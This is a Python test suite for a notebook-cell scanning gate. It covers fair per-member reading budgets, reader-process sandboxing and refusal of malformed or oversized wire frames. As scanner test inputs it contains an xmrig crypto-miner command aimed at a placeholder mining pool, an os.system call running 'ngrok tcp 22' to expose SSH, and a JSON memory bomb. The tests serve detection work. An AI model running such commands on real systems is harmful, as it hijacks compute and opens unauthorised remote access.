"""Reading is shared out fairly, by real reader processes; clocks are passed in where time is what is tested."""

import asyncio
import json
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace

import pytest
import pytest_asyncio

from mutirao.cases.action import Action
from mutirao.cases.cell import Cell, Verdict
from mutirao.detect.engine import Engine
from mutirao.detect.finding import Finding
from mutirao.detect.memory import Memory
from mutirao.detect.pack import default_pack
from mutirao.errors import OverBudgetError, TooLongError, WireError
from mutirao.gate.budget import Budget
from mutirao.gate.fair import MOST_OF_ONE, FairReading
from mutirao.gate.judge import weigh
from mutirao.gate.reader import code, outline
from mutirao.gate.readers import ReaderGone, Readers
from mutirao.gate.refusal import Refusal
from mutirao.gate.wire import Frame, Wire
from tests.gate.house import execute, until

ENGINE = Engine(default_pack())
MINER = "!./xmrig -o stratum+tcp://pool.example.org:3333 -u W\n"
LONG = "x = 1  # so that it is long\n" * 200


def cell(text: str, actor: str | None = "ana", owner: str = "ana") -> Cell:
    return Cell(text, actor, owner, "", "k")


@dataclass
class Clock:
    now: float = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest_asyncio.fixture
async def reading() -> AsyncIterator[FairReading]:
    made = FairReading(ENGINE, Readers(), Budget(20), patience_s=4)
    yield made
    await made.close()


def test_a_budget_is_spent_and_refills_evenly() -> None:
    clock = Clock()
    budget = Budget(20, clock)
    assert budget.wait_s("ana") == 0
    budget.spend("ana", 21)
    assert budget.left_s("ana") == pytest.approx(-1)
    assert budget.wait_s("ana") == pytest.approx(3)
    assert budget.wait_s("bia") == 0
    clock.now += 3
    assert budget.wait_s("ana") == pytest.approx(0)
    clock.now += 1000
    assert budget.left_s("ana") == 20, "no more than a minute's share is saved up"


async def test_a_long_cell_is_read_elsewhere_and_by_the_same_rules(reading: FairReading) -> None:
    text = LONG + MINER
    assert await reading.scan(cell(text)) == ENGINE.scan(text) != ()
    assert await reading.scan(cell(MINER)) == ENGINE.scan(MINER) != ()
    assert await reading.scan(cell(LONG + "\ud800")) == ()


async def test_a_cell_that_nobody_could_judge_is_never_sent_to_a_reader(reading: FairReading) -> None:
    with pytest.raises(TooLongError):
        await reading.scan(cell("#" * 250_001))


class Slow(Readers):
    """Readers whose tasks end when the test says so; one slot is asked about like the real ones."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[str] = []
        self.go = asyncio.Event()

    async def ask(self, head: dict[str, object], body: bytes) -> dict[str, object]:
        self.asked.append(body[:3].decode())
        if body.startswith(b"ana"):
            await self.go.wait()
        return {"findings": [], "memory": head["memory"], "seconds": 1.0}


async def test_a_member_has_one_cell_with_the_readers_at_a_time_and_others_need_not_wait() -> None:
    readers = Slow()
    reading = FairReading(ENGINE, readers, Budget(20), patience_s=30)
    huge = [asyncio.create_task(reading.scan(cell("ana" + LONG))) for _ in range(5)]
    await until(lambda: readers.asked)
    assert await asyncio.wait_for(reading.scan(cell("bia" + LONG, "bia", "bia")), 5) == ()
    assert readers.asked == ["ana", "bia"]
    readers.go.set()
    await asyncio.gather(*huge)
    assert readers.asked.count("ana") == 5


async def test_one_owners_many_kernels_push_out_only_their_own_stories() -> None:
    reading = FairReading(ENGINE, Slow(), Budget(20), patience_s=30)
    prepare, act = "import os\ngo = os.system", "go('ngrok tcp 22')"
    await reading.scan(replace(cell(prepare, "bia", "bia"), kernel="k"))
    for number in range(2 * MOST_OF_ONE):
        await reading.scan(replace(cell(prepare), kernel=f"k{number}"))
    assert len(reading._memories) == MOST_OF_ONE + 1
    assert await reading.scan(replace(cell(act), kernel="k0")) == ()
    assert await reading.scan(replace(cell(act), kernel=f"k{2 * MOST_OF_ONE - 1}"))
    assert await reading.scan(replace(cell(act, "bia", "bia"), kernel="k"))
    reading.restarted("bia", "", "k")
    assert await reading.scan(replace(cell(act, "bia", "bia"), kernel="k")) == ()


async def test_a_short_cell_waits_for_the_long_one_before_it_in_its_kernel(reading: FairReading) -> None:
    prepare = asyncio.create_task(reading.scan(cell(LONG + "import os\ngo = os.system")))
    await asyncio.sleep(0)
    assert await reading.scan(cell("go('ngrok tcp 22')"))
    assert await prepare == ()


async def test_a_cell_that_nobody_waits_for_any_more_still_holds_its_members_turn() -> None:
    readers = Slow()
    reading = FairReading(ENGINE, readers, Budget(20), patience_s=30)
    first = asyncio.create_task(reading.scan(cell("ana" + LONG)))
    await until(lambda: readers.asked)
    first.cancel()
    await asyncio.gather(first, return_exceptions=True)
    second = asyncio.create_task(reading.scan(cell("ana" + LONG)))
    await asyncio.wait([second], timeout=0.05)
    assert readers.asked == ["ana"], "hanging up must not buy a second reader"
    readers.go.set()
    await second


async def test_a_member_over_budget_waits_and_is_told_while_others_go_on() -> None:
    clock, readers = Clock(), Slow()
    reading = FairReading(ENGINE, readers, Budget(20, clock), patience_s=0.05)
    readers.go.set()
    for _ in range(20):
        await reading.scan(cell("ana" + LONG))
    clock.now += 0.001
    reading._budget.spend("ana", 1)

    class Desk:
        async def judge(self, asked: Cell) -> Verdict:
            await reading.scan(asked)
            return Verdict(Action.ALLOW)

    for text in ("ana" + LONG, "1"):
        with pytest.raises(OverBudgetError, match="share of this minute"):
            await reading.scan(cell(text))
        verdict = await weigh(Desk(), [cell(text)], 5)
        assert verdict.notice == Refusal.OVER_BUDGET.notice
    assert await reading.scan(cell("bia" + LONG, "bia", "bia")) == ()
    assert await reading.scan(cell("1", None, "bia")) == ()
    clock.now += 60
    assert await reading.scan(cell("ana" + LONG)) == ()


async def test_small_cells_that_take_long_use_the_budget_up_too() -> None:
    class Costly(Engine):
        def scan(self, code: str, language: str = "python", memory: Memory | None = None) -> tuple[Finding, ...]:
            clock.now += 3
            return ()

    clock, readers = Clock(), Slow()
    reading = FairReading(Costly(()), readers, Budget(5, clock), patience_s=0.05)
    import mutirao.gate.fair as fair

    real, fair.perf_counter = fair.perf_counter, clock  # type: ignore[attr-defined]
    try:
        for _ in range(2):
            await reading.scan(cell("1"))
        with pytest.raises(OverBudgetError):
            await reading.scan(cell("1"))
    finally:
        fair.perf_counter = real  # type: ignore[attr-defined]
    assert readers.asked == []


def frame(message: dict[str, object]) -> Frame:
    return Frame(json.dumps(message).encode(), text=True)


async def test_a_large_frame_is_inspected_elsewhere(reading: FairReading) -> None:
    message = execute("1 + 1", silent=True, user_expressions={"a": "2"})
    message["metadata"] = {"padding": "x" * 500_000}
    answer = await reading.inspect("ana", frame(message), Wire.DEFAULT)
    assert [piece.code for piece in code(answer)] == ["1 + 1", "2"]
    seen = outline(answer)
    assert (seen.msg_type, seen.channel, seen.content) == ("execute_request", "shell", {"silent": True})


@pytest.mark.parametrize(
    ("data", "says"),
    [(b'{"header": 1}', "header is int"), (b"[" * 300_000, "nested too deeply"), (b"\xff" * 300_000, "not UTF-8")],
)
async def test_what_a_reader_cannot_read_is_refused(reading: FairReading, data: bytes, says: str) -> None:
    with pytest.raises(WireError, match=says):
        outline(await reading.inspect("ana", Frame(data, text=True), Wire.DEFAULT))


async def test_json_that_would_fill_the_memory_is_refused_and_the_next_is_read(reading: FairReading) -> None:
    """100 MB of empty lists are 2 GB of objects: the reader has 1 GiB, and the gate never holds them."""
    bomb = b'{"header": {"msg_type": "x"}, "content": {"a": [' + b"[]," * 33_000_000 + b"1]}}"
    with pytest.raises((WireError, ReaderGone)):
        outline(await reading.inspect("ana", Frame(bomb, text=True), Wire.DEFAULT))
    assert await reading.scan(cell(LONG)) == ()


DIES = "import sys; sys.stdout.buffer.write((15).to_bytes(8, 'big') + b'{\"ready\": true}'); sys.stdout.flush(); "


@pytest.mark.parametrize(
    "then", ["sys.stdin.buffer.read(16)", "sys.stdin.buffer.read()", "sys.stdout.buffer.write(b'\\xff' * 9)"]
)
async def test_a_reader_that_dies_hangs_or_lies_costs_one_task(then: str) -> None:
    readers = Readers(1, longest_s=1.0, command=(sys.executable, "-c", DIES + then))
    try:
        for _ in range(2):
            with pytest.raises(ReaderGone):
                await readers.ask({"do": "scan", "language": "python", "memory": Memory().document()}, b"1")
        assert readers.deaths == 2
    finally:
        await readers.close()


async def test_a_reader_may_neither_open_files_nor_start_processes() -> None:
    """Its limits are read from /proc while it waits for the next task."""
    from pathlib import Path

    readers = Readers(1)
    try:
        await readers.ask({"do": "scan", "language": "python", "memory": Memory().document()}, b"1")
        (reader,) = readers._idle
        limits = Path(f"/proc/{reader._process.pid}/limits").read_text()
        found = {line[:25].strip(): line[26:].split()[0] for line in limits.splitlines()}
        assert (found["Max open files"], found["Max processes"], found["Max file size"]) == ("3", "0", "0")
        assert int(found["Max address space"]) == 1 << 30
    finally:
        await readers.close()
